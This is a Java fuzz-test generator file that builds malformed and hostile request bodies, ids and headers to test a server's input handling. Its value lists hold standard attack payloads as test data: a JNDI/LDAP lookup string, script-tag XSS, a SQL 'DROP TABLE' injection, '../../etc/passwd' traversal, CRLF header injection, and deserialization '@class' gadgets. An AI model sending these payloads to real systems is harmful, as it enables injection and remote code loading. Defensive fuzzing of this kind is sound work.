package org.peipao.server.security;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;

import static org.peipao.server.security.FuzzTargets.Field;
import static org.peipao.server.security.FuzzTargets.quote;

/** Generators of malformed and hostile bodies, ids and header values. */
final class HostileInputs {

    static final int LIMIT = 64 * 1024;
    static final Pattern VALID_ID = Pattern.compile("[A-Za-z0-9._-]{1,64}");

    /** An id as it goes into a path (maybe percent-encoded, maybe raw) and as it goes into a JSON body. */
    record HostileId(String inPath, String inBody) {
    }

    private HostileInputs() {
    }

    static Arbitrary<byte[]> bodies(FuzzTargets.Target target) {
        return Arbitraries.frequencyOf(
                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(200).map(HostileInputs::utf8)),
                Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMaxSize(300)),
                Tuple.of(2, json(3).map(HostileInputs::utf8)),
                Tuple.of(8, mutated(target)),
                Tuple.of(1, deeplyNested()),
                Tuple.of(2, nearTheLimit(target)));
    }

    /** JSON values of any shape: the wrong types wherever a body is expected. */
    static Arbitrary<String> json(int depth) {
        Arbitrary<String> leaf = Arbitraries.oneOf(Arbitraries.of("null", "true", "false", "0", "-0", "1e400"),
                Arbitraries.integers().map(String::valueOf), Arbitraries.doubles().map(String::valueOf),
                Arbitraries.strings().all().ofMaxLength(30).map(FuzzTargets::quote));
        if (depth == 0) {
            return leaf;
        }
        Arbitrary<String> array = json(depth - 1).list().ofMaxSize(4).map(items -> "[" + String.join(",", items) + "]");
        Arbitrary<String> object = Combinators.combine(Arbitraries.strings().all().ofMaxLength(10), json(depth - 1))
                .as((name, value) -> quote(name) + ":" + value)
                .list().ofMaxSize(4).map(members -> "{" + String.join(",", members) + "}");
        return Arbitraries.oneOf(leaf, array, object);
    }

    /** What a hostile client puts in one field. */
    static Arbitrary<String> hostileValue() {
        return Arbitraries.oneOf(
                Arbitraries.of("null", "true", "false", "0", "-1", "[]", "{}", "\"\"", "\"   \"", "[null]",
                        "{\"$ne\":null}", "\"\\u0000\"", "\"\\ud800\"", "\"a\\udc00b\"", "\"\\uffff\"",
                        "1e999999999", "-1e-999999999", "1E+2147483647", "0E-2147483647", "-0.0",
                        "0.000000000000000000000000000001", "123456789012345678901234567890", "1.005",
                        "NaN", "Infinity", "-Infinity", "0x10", "01", ".5", "1.", "+1", "2147483648", "-2147483649",
                        "\"2025-02-30\"", "\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"2025-13-01\"",
                        "\"9999-12-31\"", "\"2025-06-10T00:00:00Z\"", "[\"AI\",\"AI\"]", "[\"AI\",null]",
                        "\"${jndi:ldap://example.org/a}\"", "\"<script>alert(1)</script>\"",
                        "\"'; DROP TABLE DomainEventEntry; --\"", "\"../../etc/passwd\"", "\"\\r\\nSet-Cookie: a=b\"",
                        "\"tech_broker\"", "\"TECH_BROKER \"", "\"\\u202eRKOB_HCET\"", "{\"@class\":\"java.net.URL\"}",
                        "[\"java.util.HashMap\",{}]"),
                Arbitraries.strings().all().ofMaxLength(300).map(FuzzTargets::quote),
                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMaxLength(20).map(FuzzTargets::quote),
                Arbitraries.integers().between(200, 6000).map(n -> "\"" + "字".repeat(n) + "\""),
                Arbitraries.integers().between(300, 3000).flatMap(n -> Arbitraries.of(
                        "9".repeat(n), "0." + "3".repeat(n), "1e" + "9".repeat(Math.min(n, 20)), "-" + "1".repeat(n))),
                json(2));
    }

    /** A valid body with one to three things done to it. */
    static Arbitrary<byte[]> mutated(FuzzTargets.Target target) {
        int size = target.body().size();
        Arbitrary<Integer> field = Arbitraries.integers().between(0, Math.max(0, size - 1));
        Arbitrary<UnaryOperator<List<Field>>> replace = Combinators.combine(field, hostileValue())
                .as((at, value) -> fields -> with(fields, at, f -> new Field(f.name(), value)));
        Arbitrary<UnaryOperator<List<Field>>> drop = field.map(at -> fields -> without(fields, at));
        Arbitrary<UnaryOperator<List<Field>>> unknown = Combinators.combine(
                        Arbitraries.of("nickname", "@class", "__proto__", "constructor", "$where", "actor", ""),
                        hostileValue())
                .as((name, value) -> fields -> plus(fields, new Field(name, value)));
        Arbitrary<UnaryOperator<List<Field>>> duplicate = Combinators.combine(field, hostileValue())
                .as((at, value) -> fields -> fields.isEmpty() ? fields
                        : plus(fields, new Field(fields.get(Math.min(at, fields.size() - 1)).name(), value)));
        Arbitrary<UnaryOperator<List<Field>>> mutation = size == 0 ? Arbitraries.oneOf(unknown, duplicate)
                : Arbitraries.frequencyOf(Tuple.of(5, replace), Tuple.of(1, drop), Tuple.of(1, unknown),
                Tuple.of(1, duplicate));
        Arbitrary<String> text = mutation.list().ofMinSize(1).ofMaxSize(3).map(mutations -> {
            List<Field> fields = target.body();
            for (UnaryOperator<List<Field>> m : mutations) {
                fields = m.apply(fields);
            }
            return FuzzTargets.text(fields);
        });
        return Combinators.combine(text, Arbitraries.integers().between(0, 19), Arbitraries.integers().between(0, 999))
                .as((body, shape, cut) -> switch (shape) {
                    case 0 -> "[" + body + "]";
                    case 1 -> body.substring(0, cut % Math.max(1, body.length()));
                    case 2 -> body + body;
                    case 3 -> "\uFEFF" + body;
                    default -> body;
                }).map(HostileInputs::utf8);
    }

    static Arbitrary<byte[]> deeplyNested() {
        return Combinators.combine(Arbitraries.integers().between(500, 20_000), Arbitraries.of("[]", "{}", "{\"a\":}"))
                .as((depth, shape) -> switch (shape) {
                    case "[]" -> "[".repeat(depth) + "]".repeat(depth);
                    case "{}" -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
                    default -> "{\"name\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
                }).map(HostileInputs::utf8);
    }

    /** A valid body padded in one text field to just under, at or just over the limit (or far over it). */
    static Arbitrary<byte[]> nearTheLimit(FuzzTargets.Target target) {
        return Arbitraries.oneOf(Arbitraries.integers().between(-64, 64), Arbitraries.of(4 * LIMIT, 16 * LIMIT))
                .map(delta -> {
                    List<Field> fields = new ArrayList<>(target.body());
                    String padded = fields.stream().filter(f -> f.json().startsWith("\"")).map(Field::name)
                            .filter(name -> !target.idFields().contains(name)).findFirst().orElse("padding");
                    fields.removeIf(f -> f.name().equals(padded));
                    fields.add(new Field(padded, "\"\""));
                    int size = delta > 64 ? delta : LIMIT + delta;
                    int pad = Math.max(0, size - utf8(FuzzTargets.text(fields)).length);
                    fields.set(fields.size() - 1, new Field(padded, "\"" + "x".repeat(pad) + "\""));
                    return utf8(FuzzTargets.text(fields));
                });
    }

    static Arbitrary<HostileId> hostileIds() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(80).filter(id -> !VALID_ID.matcher(id).matches())
                        .map(id -> new HostileId(encode(id), id)),
                Arbitraries.strings().withChars("Aa0._-").ofMinLength(65).ofMaxLength(300)
                        .map(id -> new HostileId(id, id)),
                Arbitraries.of("%2e%2e", "%2E", "a;b", "a;jsessionid=1", "%2F", "a%2fb", "%5C", "a%5cb", "%00",
                        "%25", "%", "%zz", "a%", "~", "!", "$", "*", "a:b", "a@b", "a,b", "a=b", "(a)", "'",
                        "%C0%AE%C0%AE", "%E5%AD%97", "%0D%0ASet-Cookie:a=b", "%09", "%20").map(raw -> new HostileId(raw, raw)),
                Arbitraries.of("a b", "é", "字", "a\tb", "a\u0000b", "a\u007fb", "a\"b", "a<b>", "a\\b", "a{b}", "a|b",
                        "a^b", "a`b", "", "a/b", "a//b", "../companions", "a?b", "a#b")
                        .map(raw -> new HostileId(raw, raw)));
    }

    static Arbitrary<String> contentTypes() {
        return Arbitraries.oneOf(
                Arbitraries.of("", "application/json; charset=bogus", "application/json; charset=utf-16",
                        "application/json; charset=UTF-32BE", "application/json; charset=\"", "application/json;;;",
                        "application/json; charset=ISO-8859-1", "application/*", "*/*", "*", "/", "text/plain",
                        "application/xml", "text/xml", "application/x-www-form-urlencoded",
                        "multipart/form-data; boundary=x", "multipart/form-data", "application/x-java-serialized-object",
                        "application/json\u0000", "APPLICATION/JSON", "application/json+x", "application/problem+json",
                        "application/vnd.api+json", "application/x-ndjson", "application/json; q=0.5",
                        "application/json, text/plain", "application/json; boundary=" + "b".repeat(4000),
                        "application/json; charset=utf-8; charset=utf-16", "json", "application/json\r\nX-Extra: 1"),
                Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(100),
                Arbitraries.strings().alpha().numeric().withChars("-_").ofMaxLength(40)
                        .map(charset -> "application/json; charset=" + charset));
    }

    static Arbitrary<String> correlationIds() {
        return Arbitraries.oneOf(
                Arbitraries.strings().withChars("abcXYZ019._-").ofMinLength(1).ofMaxLength(64),
                Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(100),
                Arbitraries.of("", " ", "x".repeat(65), "x".repeat(4000), "x".repeat(10_000), "<script>alert(1)</script>",
                        "abc\r\nSet-Cookie: a=b", "abc\nX-Injected: 1", "%0d%0a", "${jndi:ldap://example.org/a}",
                        "../../etc/passwd", "a b", "\u00e9t\u00e9", "abc\u0000", "abc\tdef"));
    }

    static String encode(String id) {
        return URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static List<Field> with(List<Field> fields, int at, UnaryOperator<Field> change) {
        List<Field> changed = new ArrayList<>(fields);
        if (!changed.isEmpty()) {
            int index = Math.min(at, changed.size() - 1);
            changed.set(index, change.apply(changed.get(index)));
        }
        return changed;
    }

    private static List<Field> without(List<Field> fields, int at) {
        List<Field> fewer = new ArrayList<>(fields);
        if (!fewer.isEmpty()) {
            fewer.remove(Math.min(at, fewer.size() - 1));
        }
        return fewer;
    }

    private static List<Field> plus(List<Field> fields, Field field) {
        List<Field> more = new ArrayList<>(fields);
        more.add(field);
        return more;
    }
}
